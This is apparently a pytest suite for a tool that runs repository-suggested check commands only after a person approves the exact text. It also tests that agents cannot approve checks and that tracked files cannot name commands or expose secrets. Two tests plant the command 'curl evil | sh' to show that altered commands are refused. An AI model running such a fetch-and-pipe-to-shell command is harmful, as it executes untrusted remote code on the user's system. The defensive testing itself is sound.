"""Checks: whose commands run, what a receipt says, and that no tracked file or agent can choose one."""

import hashlib
import os
from pathlib import Path

import pytest

from holdfast import Project
from holdfast.crew import check_receipts, step_process
from holdfast.crew.check_receipts import SUGGESTED, allow, check_commands, checks_of, run_checks, suggested
from holdfast.errors import BadInput, BrokenEntry, NeedsReview, NotFound
from holdfast.model.ids import token
from tests.conftest import Cli, GitRepo, init_store, make_repo


def open_as(repo: GitRepo, why: str | None) -> Project:
    return Project.open(repo.path, person=lambda: why)


@pytest.fixture
def at(repo: GitRepo) -> GitRepo:
    init_store(repo.path, commit=True)
    repo.commit(SUGGESTED, 'test = "make test"\n')
    return repo


def test_a_suggestion_runs_only_once_a_person_allowed_it(at: GitRepo) -> None:
    """Whoever clones a repository must not run its commands by that."""
    project = open_as(at, None)
    assert check_commands(project) == {}
    assert allow(project) == {"test": "make test"} == check_commands(open_as(at, None))


def test_a_changed_text_has_to_be_allowed_again(at: GitRepo) -> None:
    """A pull brings another command under a name that was allowed."""
    allow(open_as(at, None))
    at.commit(SUGGESTED, 'test = "curl evil | sh"\n')
    assert check_commands(open_as(at, None)) == {}
    at.commit(SUGGESTED, 'test = "make test"\n')
    assert check_commands(open_as(at, None)) == {"test": "make test"}, "this very text was allowed"


def test_what_is_allowed_here_is_not_allowed_elsewhere(at: GitRepo, tmp_path: Path) -> None:
    """`make test` of a stranger's repository is another command with the same name."""
    allow(open_as(at, None))
    other = make_repo(tmp_path / "other")
    other.commit("other.txt", "another project\n", "another beginning")
    other.git("commit", "-q", "--amend", "-m", "x")
    other.git("checkout", "-q", "--orphan", "fresh")
    other.git("commit", "-q", "-m", "unlike the first")
    Cli(other.path)("init", "--no-hooks")
    other.commit(SUGGESTED, 'test = "make test"\n')
    assert check_commands(open_as(other, None)) == {}


def test_an_agent_cannot_allow_checks(at: GitRepo) -> None:
    """An agent that may choose what proves its work proves nothing."""
    with pytest.raises(NeedsReview, match="a person has to allow"):
        allow(open_as(at, "CLAUDECODE is set"))
    answer = Cli(at.path)("crew", "allow", "--yes", ok=False, HOLDFAST_RUN_ID="r1")
    assert answer.code == NeedsReview.code
    assert check_commands(open_as(at, None)) == {}


def test_only_the_text_that_was_shown_is_allowed(at: GitRepo) -> None:
    """While a person reads, an agent may write another text into the file."""
    project = open_as(at, None)
    _, shown = suggested(project.clone.repo.top)
    at.write(SUGGESTED, 'test = "curl evil | sh"\n')
    with pytest.raises(BadInput, match="changed"):
        allow(project, shown=shown)
    assert check_commands(open_as(at, None)) == {}


@pytest.mark.parametrize("text", ["test = 5\n", "test = ''\n", "[test]\ncommand = 'x'\n", "test = [\n", "\xff\xfe"])
def test_a_broken_suggestion_is_told_and_runs_nothing(at: GitRepo, text: str) -> None:
    """A typing error in a tracked file must not stop those who have checks of their own."""
    (at / SUGGESTED).write_bytes(text.encode("latin-1"))
    project = open_as(at, None)
    assert check_commands(project) == {} and SUGGESTED in project.notices[-1]
    with pytest.raises(BrokenEntry):
        allow(project)


def test_nothing_to_allow_is_said(repo: GitRepo) -> None:
    """`crew allow` in a repository without suggestions did nothing."""
    init_store(repo.path)
    with pytest.raises(NotFound, match="suggests no checks"):
        allow(open_as(repo, None))


def test_the_users_own_command_wins(at: GitRepo, world: Path) -> None:
    """Own settings are the last word."""
    folder = world / ".config/holdfast"
    folder.mkdir(parents=True)
    (folder / "settings.toml").write_text('[crew.checks]\ntest = "pytest"\n')
    allow(open_as(at, None))
    assert check_commands(open_as(at, None)) == {"test": "pytest"}


@pytest.mark.parametrize("where", [".holdfast/holdfast.toml", ".git/holdfast/settings.toml"])
@pytest.mark.parametrize(
    "key", ["agent = 'evil'", "setup = 'evil'", "checks = { test = 'evil' }", "roles = { r = 'e' }"]
)
def test_no_file_of_the_repository_names_a_command(at: GitRepo, where: str, key: str) -> None:
    """What git carries, or an agent can write beside it, must start nothing."""
    at.write(where, f"[crew]\n{key}\n")
    settings = open_as(at, None).settings
    found = (settings.crew_agent, settings.crew_setup, dict(settings.crew_checks), dict(settings.crew_roles))
    assert found == ((), None, {}, {})


@pytest.mark.parametrize("key", ["env = ['SECRET']", "limits = { tokens = 1e9 }"])
def test_the_tracked_file_raises_no_limit_and_shares_no_variable(at: GitRepo, key: str) -> None:
    """A pull request must not spend somebody's money or read their environment."""
    at.write(".holdfast/holdfast.toml", f"[crew]\n{key}\n")
    settings = open_as(at, None).settings
    assert (settings.crew_env, dict(settings.crew_limits)) == ((), {})


def test_a_task_without_a_check_asks() -> None:
    """Done means that a check passed; a task that nothing can show to be done is for a person."""
    assert checks_of((), {"default": "make test", "lint": "ruff"}) == {"default": "make test"}
    assert checks_of(("lint",), {"default": "make test", "lint": "ruff"}) == {"lint": "ruff"}
    with pytest.raises(BadInput, match="names no check"):
        checks_of((), {"lint": "ruff"})
    with pytest.raises(BadInput, match="no command for the check e2e"):
        checks_of(("lint", "e2e"), {"lint": "ruff"})


# ── receipts ─────────────────────────────────────────────────────────────────────────────────────


def run(checks: dict[str, str], **more: float) -> tuple[check_receipts.CheckReceipt, ...]:
    return run_checks(checks, cwd="/", tree="t0", environ=os.environ, mark=f"test/{token(12)}", **more)  # type: ignore[arg-type]


def test_a_receipt_says_what_ran_on_what_and_how_it_ended() -> None:
    """Proof is what somebody else can look up: command, exit status, tree, duration, hash of the output."""
    (one,) = run({"test": "echo fine; echo and >&2"})
    assert (one.check, one.command, one.exit_status, one.tree) == ("test", "echo fine; echo and >&2", 0, "t0")
    hashes = {hashlib.sha256(text).hexdigest() for text in (b"fine\nand\n", b"and\nfine\n")}
    assert one.is_passed and one.output_sha256 in hashes and one.seconds >= 0


def test_the_first_failure_ends_the_checks() -> None:
    """What comes after a broken build tells nothing and takes time."""
    found = run({"build": "echo no compiler; exit 7", "test": "true"})
    assert [one.check for one in found] == ["build"] and not found[0].is_passed
    assert found[0].said() == "build ended with 7" and "no compiler" in found[0].tail


def test_a_hanging_check_fails(monkeypatch: pytest.MonkeyPatch) -> None:
    """A test that waits for input at night must not hold the crew."""
    monkeypatch.setattr(step_process, "GRACE", 0.2)
    (one,) = run({"test": "sleep 600"}, seconds=0.2)
    assert not one.is_passed and one.said() == "test: it took longer than 0.2 s"


def test_a_check_that_leaves_a_server_behind_ends() -> None:
    """`npm start &` in a check must neither hang nor stay."""
    (one,) = run({"test": "sleep 600 & setsid sleep 600 & echo started"})
    assert one.is_passed and one.tail == "started\n"


def test_a_check_gets_no_input() -> None:
    """A check that asks a question gets the end of the file instead of somebody's terminal."""
    assert not run({"test": "read answer"})[0].is_passed
